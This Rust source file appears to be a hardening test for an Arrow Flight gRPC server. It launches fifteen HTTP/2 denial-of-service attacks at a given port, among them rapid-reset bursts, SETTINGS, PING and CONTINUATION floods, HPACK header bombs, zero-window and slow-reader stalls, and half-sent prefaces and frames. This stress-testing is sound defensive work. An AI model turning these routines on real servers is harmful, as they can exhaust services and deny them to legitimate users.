//! All attacks at once, each at a pace of its own: what counts is what they cost the server, not how fast this machine can attack.

use std::io;
use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

use crate::batch;
use crate::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, How, INITIAL_WINDOW_SIZE, PING,
    PREFACE, PRIORITY, Raw, block, call, field, frame, proto, reset, settings, unary,
    window_update,
};

/// An attack that is made again and again, each time on a connection of its own.
#[derive(Clone, Copy, Debug)]
enum Attack {
    BurstOfResets,
    PacedResets,
    Settings,
    Pings,
    Priorities,
    WindowUpdates,
    EmptyData,
    Continuations,
    HeaderBombs,
    NoWindow,
    WindowOfOneByte,
    SlowReader,
    HalfMessages,
    HalfAPreface,
    HalfAFrame,
}

const ALL: [Attack; 15] = [
    Attack::BurstOfResets,
    Attack::PacedResets,
    Attack::Settings,
    Attack::Pings,
    Attack::Priorities,
    Attack::WindowUpdates,
    Attack::EmptyData,
    Attack::Continuations,
    Attack::HeaderBombs,
    Attack::NoWindow,
    Attack::WindowOfOneByte,
    Attack::SlowReader,
    Attack::HalfMessages,
    Attack::HalfAPreface,
    Attack::HalfAFrame,
];

/// How long a connection is held on which nothing more is said.
const HELD: Duration = Duration::from_secs(2);
/// Between frames, and between connections.
const PAUSE: Duration = Duration::from_millis(20);
/// Streams of a connection.
const STREAMS: u32 = 40;
const LARGEST: u32 = (1 << 31) - 1;

/// Attacks until then; gives how many connections were made for it. `FLIGHT_HARDENING_ONLY=SlowReader` has one attack alone.
pub(crate) async fn attack(port: u16, until: Instant) -> usize {
    let half = half_a_message().await;
    let mut attackers = JoinSet::new();
    let only = std::env::var("FLIGHT_HARDENING_ONLY").ok();
    let chosen = |attack: &&Attack| {
        only.as_ref()
            .is_none_or(|only| *only == format!("{attack:?}"))
    };
    for attack in ALL.iter().filter(chosen) {
        let half = half.clone();
        attackers.spawn(async move {
            let mut times = 0;
            while Instant::now() < until {
                // The server has every right to close.
                let _ = tokio::time::timeout_at(until, attack.once(port, &half)).await;
                times += 1;
                sleep(PAUSE).await;
            }
            times
        });
    }
    attackers.join_all().await.into_iter().sum()
}

/// Most of a message of 900 KB, behind its schema.
async fn half_a_message() -> Vec<Vec<u8>> {
    let messages = proto::upload("counted-commit", vec![batch(112_000)]).await;
    let mut framed: Vec<_> = messages
        .iter()
        .map(|message| proto::framed(message))
        .collect();
    let last = framed.last_mut().unwrap();
    last.truncate(last.len() - 100);
    framed
}

fn streams() -> impl Iterator<Item = u32> {
    (0..STREAMS).map(|stream| stream * 2 + 1)
}

impl Attack {
    async fn once(self, port: u16, half: &[Vec<u8>]) -> io::Result<()> {
        let how = How::default();
        match self {
            Attack::BurstOfResets => {
                let mut raw = Raw::connect(port).await?;
                let both = |stream| [call(stream, "DoPut"), reset(stream, CANCEL)].concat();
                let burst: Vec<u8> = (1..2000).step_by(2).flat_map(both).collect();
                raw.write(&burst).await?;
                raw.closed().await;
            }
            Attack::PacedResets => {
                let mut raw = Raw::connect(port).await?;
                for stream in (1..).step_by(2) {
                    raw.write(&unary(stream, "DoGet", &proto::named("counted-endless")))
                        .await?;
                    sleep(Duration::from_millis(1)).await;
                    raw.write(&reset(stream, CANCEL)).await?;
                }
            }
            Attack::Settings => {
                let mut raw = Raw::connect(port).await?;
                let calls: Vec<u8> = streams().flat_map(|stream| call(stream, "DoPut")).collect();
                raw.write(&calls).await?;
                let flip = [0, 65_535].map(|size| settings(&[(INITIAL_WINDOW_SIZE, size)]));
                again(raw, &flip.concat()).await?;
            }
            Attack::Pings => again(Raw::connect(port).await?, &frame(PING, 0, 0, &[7; 8])).await?,
            Attack::Priorities => {
                let raw = Raw::connect(port).await?;
                again(raw, &frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])).await?;
            }
            Attack::WindowUpdates => {
                let mut raw = Raw::connect(port).await?;
                raw.write(&call(1, "DoPut")).await?;
                again(raw, &window_update(1, 1)).await?;
            }
            Attack::EmptyData => {
                let mut raw = Raw::connect(port).await?;
                raw.write(&call(1, "DoPut")).await?;
                again(raw, &frame(DATA, 0, 1, &[])).await?;
            }
            Attack::Continuations => {
                let mut raw = Raw::connect(port).await?;
                raw.write(&frame(HEADERS, 0, 1, &block("DoPut", &[])))
                    .await?;
                let more = frame(CONTINUATION, 0, 1, &field(0, "x-more", &"x".repeat(1000)));
                again(raw, &more).await?;
            }
            Attack::HeaderBombs => {
                let mut raw = Raw::connect(port).await?;
                let mut bomb = block("DoPut", &[]);
                bomb.extend(field(0x40, "x-bomb", &"x".repeat(4000)));
                bomb.resize(bomb.len() + 12_000, 0x80 | 62);
                for stream in streams() {
                    raw.write(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb))
                        .await?;
                    sleep(PAUSE).await;
                }
            }
            Attack::NoWindow => {
                let raw = Raw::with(port, &how, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
                let mut raw = downloads(raw).await?;
                let _ = tokio::time::timeout(HELD, raw.closed()).await;
            }
            Attack::WindowOfOneByte => {
                let raw = Raw::with(port, &how, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
                let mut raw = downloads(raw).await?;
                for _ in 0..100 {
                    let drops: Vec<u8> = streams()
                        .flat_map(|stream| window_update(stream, 1))
                        .collect();
                    raw.write(&drops).await?;
                    sleep(PAUSE).await;
                }
            }
            Attack::SlowReader => {
                let how = How {
                    small_buffer: true,
                    ..how
                };
                let raw = Raw::with(port, &how, &[(INITIAL_WINDOW_SIZE, LARGEST)]).await?;
                let raw = downloads(raw).await?;
                sleep(HELD).await;
                drop(raw);
            }
            Attack::HalfMessages => {
                let mut raw = Raw::connect(port).await?.settled().await?;
                for stream in streams() {
                    raw.write(&call(stream, "DoPut")).await?;
                    for part in half.iter().flat_map(|message| message.chunks(16 << 10)) {
                        raw.write(&frame(DATA, 0, stream, part)).await?;
                    }
                }
                sleep(HELD).await;
            }
            Attack::HalfAPreface => {
                let mut held = Vec::new();
                for _ in 0..10 {
                    let mut raw = Raw::silent(port, &how).await?;
                    raw.write(&PREFACE[..10]).await?;
                    held.push(raw);
                }
                for raw in &mut held {
                    let _ = tokio::time::timeout(HELD, raw.closed()).await;
                }
            }
            Attack::HalfAFrame => {
                let mut raw = Raw::connect(port).await?;
                raw.write(&call(1, "DoPut")[..20]).await?;
                let _ = tokio::time::timeout(HELD, raw.closed()).await;
            }
        }
        Ok(())
    }
}

/// Downloads of which there is no end, on all streams.
async fn downloads(mut raw: Raw) -> io::Result<Raw> {
    for stream in streams() {
        raw.write(&unary(stream, "DoGet", &proto::named("counted-endless")))
            .await?;
    }
    Ok(raw)
}

/// The same frame by the thousand, and what comes is not answered.
async fn again(raw: Raw, again: &[u8]) -> io::Result<()> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    let (mut reads, mut writes) = raw.split();
    let again = again.repeat(8 * 1024 / again.len() + 1);
    let writing = async {
        loop {
            writes.write_all(&again).await?;
            sleep(PAUSE).await;
        }
    };
    let reading = async {
        let mut bytes = vec![0; 16 * 1024];
        while matches!(reads.read(&mut bytes).await, Ok(1..)) {}
    };
    tokio::select! {
        ended = writing => ended,
        () = reading => Ok(()),
    }
}
